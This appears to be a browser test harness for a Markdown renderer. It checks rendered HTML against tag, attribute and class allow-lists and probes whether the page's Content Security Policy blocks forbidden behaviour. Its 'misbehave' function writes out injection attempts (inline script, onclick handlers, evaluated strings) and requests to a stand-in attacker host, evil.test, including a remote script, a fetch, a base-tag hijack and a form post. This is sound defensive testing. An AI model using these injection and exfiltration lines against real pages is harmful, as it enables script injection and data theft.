/** Laid out before a page begins: notices whatever runs, and tells what of a rendered text is not form and text alone. */

window.hits = 0;
window.hit = window.alert = () => (window.hits += 1);

const TAGS = new Set(
  ("a b blockquote br button code del details div em h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre s span strong sub " +
    "summary sup table tbody td th thead tr u ul").split(" "),
);
const ATTRIBUTES = new Set(
  ("align aria-hidden aria-label class colspan data-language dir href lang open rel role rowspan start style tabindex target title type").split(" "),
);
const CLASSES = /^(math|math-source|math-drawn|math math-(display|failed)|block|code-(block|head|language|copy|part)|table-frame|language-[\w+#.-]+|hljs-[\w:-]+( [\w-]+)*)$/;

/** What the drawing of a formula consists of: neither addresses nor ids. */
const DRAWN_TAGS = new Set(
  ("annotation line math menclose mfrac mi mn mo mover mpadded mphantom mroot mrow mspace msqrt mstyle msub msubsup msup " +
    "mtable mtd mtext mtr munder munderover path semantics span svg").split(" "),
);
const DRAWN_ATTRIBUTES = new Set(
  ("accent accentunder aria-hidden class columnalign columnlines columnspacing d depth display displaystyle encoding fence " +
    "form height largeop linebreak linethickness lspace mathbackground mathcolor mathsize mathvariant maxsize minsize " +
    "movablelimits notation preserveAspectRatio rowlines rowspacing rspace scriptlevel separator stretchy style symmetric " +
    "viewBox voffset width x1 x2 xmlns y1 y2").split(" "),
);

/** Returns what is wrong with each node below `root`. */
window.harm = (root) => [...root.querySelectorAll("*")].flatMap((node) => faults(node).map((fault) => `${fault}: ${node.outerHTML}`));

function faults(node) {
  const found = [];
  if (node.parentElement.closest(".math-drawn")) {
    if (!DRAWN_TAGS.has(node.localName)) found.push("element");
    for (const { name, value } of node.attributes) {
      if (!DRAWN_ATTRIBUTES.has(name) || (name === "style" && /url|expression|fixed/i.test(value))) found.push(name);
    }
    return found;
  }
  if (node.namespaceURI !== "http://www.w3.org/1999/xhtml" || !TAGS.has(node.localName)) found.push("element");
  for (const { name, value } of node.attributes) if (!ATTRIBUTES.has(name) || !allowed(name, value)) found.push(name);
  if (node.localName === "button" && node.className !== "code-copy") found.push("button");
  if (node.localName === "a" && node.hasAttribute("href")) {
    if (!/^(https?:|mailto:)$/.test(node.protocol) || node.origin === location.origin) found.push("address");
    if (node.target !== "_blank" || !node.relList.contains("noopener")) found.push("opener");
  }
  return found;
}

function allowed(name, value) {
  if (name === "class") return CLASSES.test(value);
  if (name === "style") return /^contain-intrinsic-block-size: auto \d+lh;$/.test(value);
  if (name === "role") return value === "region";
  if (name === "aria-label") return /^(Code(, |$)|Table$|Copy code$)/.test(value);
  return true;
}

/** Renders each text at once and a character at a time; returns all that was ever wrong. */
window.harmOf = async (texts) => {
  // The page's own address of its modules: another copy would want a policy of the same name.
  const main = document.querySelector("script[type=module]").src;
  const { MarkdownView } = await import(new URL("text/markdown.js", main));
  const found = [];
  for (const text of texts) {
    for (const step of [text.length, 1]) {
      const root = document.createElement("div");
      document.body.append(root);
      const view = new MarkdownView(root);
      for (let end = step; end <= text.length; end += step) {
        for (const _ of view.showing(text.slice(0, end), false));
        found.push(...window.harm(root));
      }
      for (const _ of view.showing(text, true));
      while (root.querySelector(".math:not(.math-failed, :has(.math-drawn))")) await new Promise((later) => requestAnimationFrame(later));
      for (const node of root.querySelectorAll("*")) node.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
      found.push(...window.harm(root));
      root.remove();
    }
  }
  return found;
};

/** Tries what the page's policy forbids; returns the directives that were broken, and what was allowed all the same. */
window.misbehave = async () => {
  const told = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => told.push(effectiveDirective));
  const element = (name, fields) => Object.assign(document.createElement(name), fields);
  const attempts = {
    markup: () => (document.body.innerHTML = "<b>x</b>"),
    script: () => document.body.append(element("script", { text: "hit()" })),
    source: () => document.body.append(element("script", { src: "https://evil.test/x.js" })),
    handler: () => document.createElement("button").setAttribute("onclick", "hit()"),
    evaluated: () => setTimeout("hit()"),
    request: () => fetch("https://evil.test/"),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      told.push(`allowed: ${name}`);
    } catch {
      // As it should be.
    }
  }
  document.body.append(element("img", { src: "https://evil.test/x.png" }), element("iframe", { src: "/" }));
  document.body.append(element("link", { rel: "stylesheet", href: "https://evil.test/x.css" }));
  document.head.append(element("base", { href: "https://evil.test/" }));
  document.body.append(element("form", { action: "https://evil.test/", method: "post" }));
  document.forms[document.forms.length - 1].submit();
  // The last of them is told when the navigation begins, which a busy machine delays.
  for (let n = 0; n < 100 && !told.includes("form-action"); n += 1) await new Promise((later) => setTimeout(later, 200));
  return [...new Set(told)];
};
